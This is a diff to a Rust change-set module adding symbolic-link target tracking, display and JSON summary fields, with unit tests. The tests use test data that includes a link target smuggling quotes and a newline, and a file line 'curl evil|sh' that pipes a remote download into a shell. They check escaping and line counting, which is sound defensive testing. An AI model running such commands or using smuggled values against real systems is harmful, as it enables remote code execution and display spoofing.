@@ -24,6 +24,8 @@ pub struct FileChange {
     pub file_kind: FileKind,
     /// Size in bytes before and after, for files.
     pub sizes: (Option<u64>, Option<u64>),
+    /// Target before and after, for symbolic links, converted to UTF-8 lossily. For display.
+    pub link_targets: (Option<String>, Option<String>),
     /// Permission bits before and after, if they changed.
     pub modes: Option<(u32, u32)>,
     /// Whether the file is executable after the change.
@@ -51,6 +53,21 @@ impl BinaryContent {
 }
 
 impl FileChange {
+    /// Describes the targets of a symbolic link, unescaped: `target "a" → "b"`. They are quoted, because they can contain
+    /// any character. `None` if the path is not a link and was none.
+    pub fn describe_link(&self) -> Option<String> {
+        match &self.link_targets {
+            (Some(before), Some(after)) if before != after => {
+                Some(format!("target {before:?} → {after:?}"))
+            }
+            (Some(before), None) if self.kind != ChangeKind::Deleted => {
+                Some(format!("was a link to {before:?}"))
+            }
+            (_, Some(target)) | (Some(target), None) => Some(format!("target {target:?}")),
+            (None, None) => None,
+        }
+    }
+
     /// Describes the change for display, unescaped: `src/a.rs  (file, 120 B → 124 B, mode 644 → 755, binary)`.
     pub fn describe(&self) -> String {
         let mut details = vec![self.file_kind.as_str().to_owned()];
@@ -64,6 +81,7 @@ impl FileChange {
             (Some(size), None) | (None, Some(size)) => details.push(format_size(size)),
             (None, None) => {}
         }
+        details.extend(self.describe_link());
         if let Some((before, after)) = self.modes {
             details.push(format!("mode {before:o} → {after:o}"));
         }
@@ -188,6 +206,12 @@ impl ChangeSet {
             if let ChangeKind::Moved { from } = &change.kind {
                 shown["from"] = json!(text::escape_line(from, 1_000));
             }
+            let (old_target, target) = &change.link_targets;
+            for (name, target) in [("old_link_target", old_target), ("link_target", target)] {
+                if let Some(target) = target {
+                    shown[name] = json!(text::escape_line(target, 1_000));
+                }
+            }
             shown
         });
         json!({"count": self.changes.len(), "changes": each.collect::<Vec<_>>()})
@@ -255,4 +279,74 @@ pub enum CommitError {
     /// The commit failed. No changes remain unless the error lists them.
     #[error("{}", .0.message)]
     Failed(Box<CallError>),
+}
+
+#[cfg(test)]
+mod tests {
+    use expect_test::{Expect, expect};
+
+    use super::*;
+
+    fn link(kind: ChangeKind, before: Option<&str>, after: Option<&str>) -> FileChange {
+        FileChange {
+            path: "a".to_owned(),
+            kind,
+            file_kind: FileKind::Link,
+            sizes: (None, None),
+            link_targets: (before.map(str::to_owned), after.map(str::to_owned)),
+            modes: None,
+            executable: false,
+            diff: None,
+            no_diff_reason: None,
+            binary: None,
+        }
+    }
+
+    #[test]
+    fn targets_of_links_are_described_and_summarized() {
+        let check = |change: &FileChange, expected: Expect| expected.assert_eq(&change.describe());
+        let created = link(ChangeKind::Created, None, Some("b\", mode \"\n"));
+        check(&created, expect![[r#"a  (link, target "b\", mode \"\n")"#]]);
+        let modified = link(ChangeKind::Modified, Some("b"), Some("c"));
+        check(&modified, expect![[r#"a  (link, target "b" → "c")"#]]);
+        let deleted = link(ChangeKind::Deleted, Some("b"), None);
+        check(&deleted, expect![[r#"a  (link, target "b")"#]]);
+        let from = "d".to_owned();
+        let moved = link(ChangeKind::Moved { from }, None, Some("b"));
+        check(&moved, expect![[r#"a  (link, from d, target "b")"#]]);
+        let replaced = FileChange {
+            file_kind: FileKind::File,
+            sizes: (None, Some(3)),
+            ..link(ChangeKind::Modified, Some("b"), None)
+        };
+        check(&replaced, expect![[r#"a  (file, 3 B, was a link to "b")"#]]);
+        let set = ChangeSet {
+            changes: vec![created, modified],
+        };
+        expect![[r#"{"changes":[{"change":"created","link_target":"b\", mode \"\\n","path":"a","what":"link"},{"change":"modified","link_target":"c","old_link_target":"b","path":"a","what":"link"}],"count":2}"#]]
+            .assert_eq(&set.summary().to_string());
+    }
+
+    #[test]
+    fn only_a_newline_ends_a_counted_line() {
+        let diff = text::UnifiedDiff {
+            header: Some(("a", "a")),
+            ..text::UnifiedDiff::default()
+        };
+        let (old, new) = ("ok\nold\rtail\n", "ok\ncurl evil|sh\ntail\n");
+        let change = FileChange {
+            file_kind: FileKind::File,
+            diff: Some(FileDiff {
+                file_name: "a".to_owned(),
+                diff: diff.of(old, new),
+                original: Some(old.to_owned()),
+                new: new.to_owned(),
+            }),
+            ..link(ChangeKind::Modified, None, None)
+        };
+        let set = ChangeSet {
+            changes: vec![change],
+        };
+        assert_eq!(set.line_counts(), (2, 1));
+    }
 }
